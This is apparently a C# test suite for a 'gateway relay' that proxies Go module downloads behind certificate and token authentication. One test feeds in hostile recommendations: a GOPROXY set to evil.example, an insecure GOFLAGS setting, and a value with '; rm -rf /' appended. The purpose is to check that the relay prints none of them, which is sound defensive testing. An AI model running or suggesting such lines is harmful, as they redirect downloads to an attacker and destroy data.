using System.Runtime.Versioning;
using System.Text.RegularExpressions;
using Gateway.Lab;
using Gateway.Lab.Modules;
using Gateway.Lab.Origins;
using Gateway.Tests.EndToEnd;
using Microsoft.AspNetCore.Http;

namespace Gateway.Tests.Relay;

/// <summary>The real go command through <c>gateway relay</c>, at an edge that wants a certificate and a token.</summary>
public sealed partial class RelayGoCommandTests : IAsyncLifetime
{
    private RelayBed? _bed;
    private Origin? _origin;
    private LabGateway? _gateway;
    private HttpClient? _client;

    public static TheoryData<string> Releases => [GoRelease.Oldest, GoRelease.Newest, GoRelease.WithAuth];

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    private RelayBed Bed => _bed!;

    private string[] Arguments =>
    [
        "--to", $"{Bed.Edge.Address}", "--authorities", Bed.Folder["ca.pem"], "--certificate", Bed.Folder["client.pem"], "--token-file", Bed.Folder["token"],
    ];

    public async ValueTask InitializeAsync()
    {
        _bed = await RelayBed.StartEdgeAsync(wantsCertificate: true);
        _bed.WriteCertificate("alice.corp.example");
        _bed.Write("token", "good-token");
        _origin = await Origin.StartAsync(OriginOptions.PublicLike(LabModules.Public()));
        _gateway = await LabGateway.StartAsync(new LabSettings().Private("corp.example").Cluster(_origin).Route("*", _origin.Name));
        _client = _gateway.Client;
        _bed.Edge.Answer = PassOnAsync;
    }

    public async ValueTask DisposeAsync()
    {
        if (_gateway is not null)
        {
            await _gateway.DisposeAsync();
        }

        if (_origin is not null)
        {
            await _origin.DisposeAsync();
        }

        await Bed.DisposeAsync();
    }

    [Theory]
    [MemberData(nameof(Releases))]
    public async Task A_whole_graph_is_downloaded(string release)
    {
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);
        using var go = Go(release, relay);

        (await go.RunAsync(Cancellation, "get", $"{LabModules.Shop}@latest")).Succeeded();

        go.Downloaded.Should().HaveCountGreaterThan(20);
        Bed.Edge.Asked.Should().OnlyContain(asked => asked.Certificate == "alice.corp.example" && asked.Token == "good-token");
    }

    [Theory]
    [MemberData(nameof(Releases))]
    public async Task What_the_edge_says_of_a_refusal_is_what_go_prints(string release)
    {
        Bed.Edge.Answer = static context => RefuseAsync(context, 403, "forbidden: rule no-shop denies example.org/shop\nask security@corp.example\nrequest 0123456789abcdef\n");
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);
        using var go = Go(release, relay);

        var output = await go.RunAsync(Cancellation, "get", $"{LabModules.Shop}@v1.0.0");

        output.ExitCode.Should().Be(1);
        output.Error.Should().Contain("403 Forbidden").And.Contain("rule no-shop denies example.org/shop")
            .And.Contain("ask security@corp.example").And.Contain("request 0123456789abcdef");
    }

    [Theory]
    [MemberData(nameof(Releases))]
    public async Task An_edge_that_restarts_in_the_middle_of_a_download_fails_nothing(string release)
    {
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);
        using var go = Go(release, relay);
        var restarting = Task.CompletedTask;
        var isFirst = 1;
        Bed.Edge.Answer = async context =>
        {
            if (context.Request.Path.Value!.EndsWith(".zip", StringComparison.Ordinal) && Interlocked.Exchange(ref isFirst, 0) == 1)
            {
                restarting = Task.Run(async () =>
                {
                    await Bed.Edge.StopAsync();
                    await Bed.Edge.StartAgainAsync();
                });
                await Task.Delay(Timeout.Infinite, context.RequestAborted).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
                context.Abort();
                return;
            }

            await PassOnAsync(context);
        };

        (await go.RunAsync(Cancellation, "get", $"{LabModules.Shop}@latest")).Succeeded();

        await restarting;
        isFirst.Should().Be(0, "the edge was restarted");
        go.Downloaded.Should().HaveCountGreaterThan(20);
    }

    [Theory]
    [MemberData(nameof(Releases))]
    public async Task A_token_that_has_run_out_is_told_to_the_developer(string release)
    {
        Bed.Edge.Answer = static context => RefuseAsync(context, 401, "unauthorized: the token has expired\n");
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);
        using var go = Go(release, relay);

        var output = await go.RunAsync(Cancellation, "get", "example.org/hello@v1.0.0");

        output.ExitCode.Should().Be(1);
        output.Error.Should().Contain("401 Unauthorized").And.Contain("the token has expired");
        await relay.SaysAsync(AsYet(), Cancellation);
    }

    [Fact]
    [SupportedOSPlatform("linux")]
    public async Task A_secret_is_in_the_address_and_stays_the_same()
    {
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, [.. Arguments, "--secret"]);
        await using var again = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, [.. Arguments, "--secret"]);
        using var go = Go(GoRelease.Newest, relay);
        using var without = new GoCommand(GoRelease.Newest, new Uri(relay.GoProxy).GetLeftPart(UriPartial.Authority));

        (await go.RunAsync(Cancellation, "get", "example.org/hello@v1.0.0")).Succeeded();
        var refused = await without.RunAsync(Cancellation, "get", "example.org/hello@v1.0.0");

        new Uri(relay.GoProxy).AbsolutePath.Should().MatchRegex("^/[0-9a-f]{40}$").And.Be(new Uri(again.GoProxy).AbsolutePath);
        refused.Error.Should().Contain("403 Forbidden").And.Contain("the relay's secret is missing");
        File.GetUnixFileMode(Bed.Folder[".local", "state", "gateway", "relay.secret"]).Should().Be(UnixFileMode.UserRead | UnixFileMode.UserWrite);
    }

    [Fact]
    public async Task What_else_the_edge_recommends_is_printed_and_nothing_it_makes_up()
    {
        Bed.Edge.Answer = static context => context.Response.WriteAsync(
            "  go env -w GOPROXY=https://evil.example\n  go env -w GOFLAGS=-insecure\n  go env -w GONOSUMDB=corp.example,*.corp.example; rm -rf /\n");

        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);
        await relay.PrintsAsync(Checksums(), Cancellation);

        relay.Output.Should().Equal(
            $"Relay to https://127.0.0.1:{Bed.Edge.Port}, for this machine only. Paste:", "", $"  go env -w GOPROXY={relay.GoProxy}",
            "  go env -w GONOSUMDB=corp.example,*.corp.example");
        relay.Error.Should().BeEmpty();
    }

    [Theory]
    [InlineData("INT")]
    [InlineData("TERM")]
    public async Task A_signal_ends_it_with_0(string signal)
    {
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);

        await relay.SignalAsync(signal, Cancellation);

        (await relay.EndsAsync(Cancellation)).Should().Be(0);
        relay.Error.Should().BeEmpty();
    }

    [Fact]
    public async Task Zips_of_any_size_stream_through_in_little_memory()
    {
        const int size = 65 << 20;
        Bed.Edge.Answer = static async context =>
        {
            var block = new byte[1 << 16];
            context.Response.ContentLength = size;
            for (var sent = 0; sent < size; sent += block.Length)
            {
                await context.Response.Body.WriteAsync(block, context.RequestAborted);
            }
        };
        await using var relay = await RelayProcess.StartAsync(Bed.Folder.Path, Cancellation, Arguments);
        using var client = new HttpClient { BaseAddress = new Uri(relay.GoProxy) };
        (await CountAsync(client, "warm")).Should().Be(size);
        var before = relay.PeakMemory;

        var sizes = await Task.WhenAll(Enumerable.Range(0, 4).Select(number => CountAsync(client, $"{number}")));

        sizes.Should().AllBeEquivalentTo(size);
        (relay.PeakMemory - before).Should().BeLessThan(2 * size, "four of them were under way at once, each with what HTTP/2 lets be on its way");
    }

    private static GoCommand Go(string release, RelayProcess relay) => new(release, relay.GoProxy);

    private static async Task<int> CountAsync(HttpClient client, string name)
    {
        await using var body = await client.GetStreamAsync($"/example.org/large/@v/v1.0.{name}.zip", Cancellation);
        var block = new byte[1 << 16];
        var total = 0;
        for (var read = 1; read > 0; total += read)
        {
            read = await body.ReadAsync(block, Cancellation);
        }

        return total;
    }

    private static Task RefuseAsync(HttpContext context, int status, string text)
    {
        context.Response.StatusCode = status;
        context.Response.ContentType = "text/plain; charset=utf-8";
        return context.Response.WriteAsync(text);
    }

    /// <summary>The edge is the gateway, behind the test's own TLS.</summary>
    private async Task PassOnAsync(HttpContext context)
    {
        using var answer = await _client!.GetAsync(context.Request.Path.Value, HttpCompletionOption.ResponseHeadersRead, context.RequestAborted);
        context.Response.StatusCode = (int)answer.StatusCode;
        context.Response.ContentType = $"{answer.Content.Headers.ContentType}";
        context.Response.ContentLength = answer.Content.Headers.ContentLength;
        await answer.Content.CopyToAsync(context.Response.Body, context.RequestAborted);
    }

    [GeneratedRegex("^gateway relay: as yet it is refused: 401 unauthorized: the token has expired$")]
    private static partial Regex AsYet();

    [GeneratedRegex("GONOSUMDB")]
    private static partial Regex Checksums();
}
